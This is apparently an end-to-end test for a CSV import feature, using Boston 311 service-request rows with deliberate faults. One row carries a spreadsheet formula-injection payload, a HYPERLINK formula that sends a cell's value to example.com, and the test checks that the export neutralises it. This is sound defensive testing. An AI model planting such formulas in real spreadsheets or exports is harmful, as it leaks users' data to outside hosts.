import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { feedFile, feedRows, head, type FeedRow } from '../support/boston.js'
import { openStage, type Stage } from '../support/stage.js'

const FORMULA = '=HYPERLINK("https://example.com/?q="&A2)'
const good = feedRows()
/** What stands wrong in the file, and what it should have been. */
const wrong: FeedRow[] = [
  [
    '901',
    '2011-02-31 08:00:00',
    '',
    'Open',
    'Street Light Outages',
    'normal',
    FORMULA,
    'Self Service',
  ],
  ['902', '2011-10-21 08:00:00', '', 'Open', 'Electrical', 'whenever', 'Roxbury', 'Self Service'],
  [
    '903',
    'last Tuesday',
    '',
    'Open',
    'Graffiti Removal',
    'asap?',
    '+1 617 635 4500',
    'Self Service',
  ],
]
const righted = wrong.map((row) => row.with(1, '2011-10-20 08:00:00').with(5, 'high'))

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage?.close())

it('brings the city’s file in, gives what is wrong back, and takes it corrected without doubles', async () => {
  const page = await stage.person('lee', '/import')
  await drop(page, '311 requests.csv', feedFile([...good, ...wrong]))

  await page.getByRole('heading', { name: 'Preview' }).waitFor()
  await page.getByText('3,882 rows, 8 columns, parted by commas, UTF-8').waitFor()
  await matched(page)
  await correct(page)
  await mapTypes(page)
  await count(page, { 'Will come in': good.length, 'Would be refused': 3 })
  await page.getByRole('button', { name: 'Would be refused 3' }).click()
  const bad = page.getByRole('region', { name: 'Rows that cannot come in' })
  for (const said of [
    /3,881\s+open_dt/,
    /3,882\s+priority.*whenever/,
    /3,883\s+open_dt.*last Tuesday/,
  ])
    await bad.getByRole('row', { name: said }).waitFor()
  await save(page, 'Boston’s export')

  const steps = await bringIn(page)
  expect(steps.length).toBeGreaterThan(2)
  expect(steps).toEqual(steps.toSorted((a, b) => a - b))
  await count(page, { Created: good.length, Skipped: 0, Refused: 3 })
  const given = await refusedFile(page)
  expect(given[0]).toEqual([...head, 'Why refused'])
  expect(given.slice(1).map((row) => row.slice(0, 6))).toEqual(wrong.map((row) => row.slice(0, 6)))
  // A spreadsheet shows them as text and runs nothing.
  expect(given.slice(1).map((row) => row[6])).toEqual([
    `'${FORMULA}`,
    'Roxbury',
    "'+1 617 635 4500",
  ])
  expect(given[1]?.[8]).toMatch(/open_dt/)
  expect(given[3]?.[8]).toMatch(/last Tuesday[^]*asap\?/)

  await page.getByRole('button', { name: 'Bring another file in' }).click()
  const corrected = given
    .slice(1)
    .map((row, at) => [...(righted[at]?.slice(0, 6) ?? []), ...row.slice(6)])
  const known = good.slice(0, 200).map((row) => [...row, ''])
  const again = feedFile([...corrected, ...known], given[0])
  await page.getByLabel('CSV file').setInputFiles(fileOf('311 requests refused.csv', again))
  await page.getByRole('button', { name: 'Saved readings' }).click()
  await page.getByRole('menuitem', { name: 'Boston’s export' }).click()
  await count(page, { 'Will come in': 3, 'Already here': 200, 'Would be refused': 0 })
  await bringIn(page)
  await count(page, { Created: 3, Skipped: 200, Refused: 0 })
  await foundOnce(page)
}, 120_000)

/** Columns are known by name and by what is in them. */
async function matched(page: Page): Promise<void> {
  const read = { 'Task type': 'type', Reference: 'case_enquiry_id', Received: 'open_dt' }
  const more = { Finished: 'closed_dt', Status: 'case_status', Priority: 'priority' }
  for (const [label, column] of Object.entries({ ...read, ...more }))
    expect([label, await columnOf(page, label)]).toEqual([label, column])
  await page.getByText('Electrical').first().waitFor()
}

/** By hand: the neighborhood is a note, and the title is the type alone. */
async function correct(page: Page): Promise<void> {
  await columnFor(page, 'Note').selectOption('neighborhood')
  await columnFor(page, 'Title').selectOption('type')
  const more = page.getByRole('button', { name: /out of the title$/ })
  while ((await more.count()) > 0) await more.first().click()
  await page.getByText('Not brought in: 0').waitFor({ state: 'detached' })
}

/** One word is a type that the office has, one becomes a type of its own, the others are copies. */
async function mapTypes(page: Page): Promise<void> {
  await page.getByLabel('Task type for Street Light Outages').selectOption({ label: 'Permit' })
  await page.getByLabel('Task type for Electrical').selectOption({ label: 'A new task type' })
  await page.getByLabel('Standard minutes of Electrical').fill('12.5')
  await page.getByLabel('Rows of words left open').selectOption({ label: 'become Copy' })
}

const digits = (text: string) => Number(text.replace(/\D/g, ''))

async function count(page: Page, wanted: Record<string, number>): Promise<void> {
  for (const [label, rows] of Object.entries(wanted))
    await expect
      .poll(async () => digits(await counted(page, label)), { timeout: 20_000, message: label })
      .toBe(rows)
}
const counted = (page: Page, label: string) =>
  page.locator(`dt:text-is("${label}") + dd .figure`).innerText()

async function save(page: Page, name: string): Promise<void> {
  await page.getByRole('button', { name: 'Saved readings' }).click()
  await page.getByRole('menuitem', { name: 'Save this reading' }).click()
  const dialog = page.getByRole('dialog', { name: 'Save this reading' })
  await dialog.getByLabel('Name').fill(name)
  await dialog.getByRole('button', { name: 'Save', exact: true }).click()
  await dialog.waitFor({ state: 'detached' })
}

/** Answers the states in which the progress bar was seen. */
async function bringIn(page: Page): Promise<number[]> {
  await page.evaluate(() => {
    const seen: number[] = []
    Object.assign(window, { seen })
    new MutationObserver(() => {
      const bar = document.querySelector('[role=progressbar][aria-label="Bringing rows in"]')
      const now = Number(bar?.getAttribute('aria-valuenow') ?? Number.NaN)
      if (!Number.isNaN(now) && now !== seen.at(-1)) seen.push(now)
    }).observe(document.body, { subtree: true, childList: true, attributes: true })
  })
  await page.getByRole('button', { name: /^Bring [\d,]+ rows? in$/ }).click()
  await page.getByRole('heading', { name: /came in$/ }).waitFor({ timeout: 40_000 })
  return page.evaluate(() => (window as unknown as { seen: number[] }).seen)
}

async function refusedFile(page: Page): Promise<string[][]> {
  const coming = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Download 3 refused rows' }).click()
  const file = await coming
  expect(file.suggestedFilename()).toBe('311 requests refused.csv')
  return parse(await readFile(await file.path()), { bom: true })
}

/** The corrected rows are here once each, with what stood in them. */
async function foundOnce(page: Page): Promise<void> {
  for (const [at, [reference = '']] of righted.entries()) {
    const { tasks } = await stage.running.app
      .execute('springfield', 'lee', 'task.search', { text: reference })
      .then((answer) => (answer.ok ? (answer.output as { tasks: Found[] }) : { tasks: [] }))
    const mine = tasks.filter((task) => task.reference === reference)
    expect(mine).toMatchObject([{ priority: 'high', title: wrong[at]?.[4] }])
  }
  await page.goto(`${stage.address}/types`)
  await page.getByRole('row', { name: /Electrical.*12\.5/ }).waitFor()
}
type Found = { reference: string | null; priority: string; title?: string }

const fileOf = (name: string, text: string) => ({
  name,
  mimeType: 'text/csv',
  buffer: Buffer.from(text),
})

const columnFor = (page: Page, label: string) =>
  page.getByLabel(`${label}: column of the file`, { exact: true })
const columnOf = (page: Page, label: string) => columnFor(page, label).inputValue()

/** Lets a file fall onto the page, as from a folder. */
async function drop(page: Page, name: string, text: string): Promise<void> {
  const data = await page.evaluateHandle(
    ([called, content]) => {
      const transfer = new DataTransfer()
      transfer.items.add(new File([content ?? ''], called ?? '', { type: 'text/csv' }))
      return transfer
    },
    [name, text],
  )
  const zone = page.getByRole('group', { name: 'File' })
  for (const event of ['dragenter', 'dragover', 'drop'])
    await zone.dispatchEvent(event, { dataTransfer: data })
}
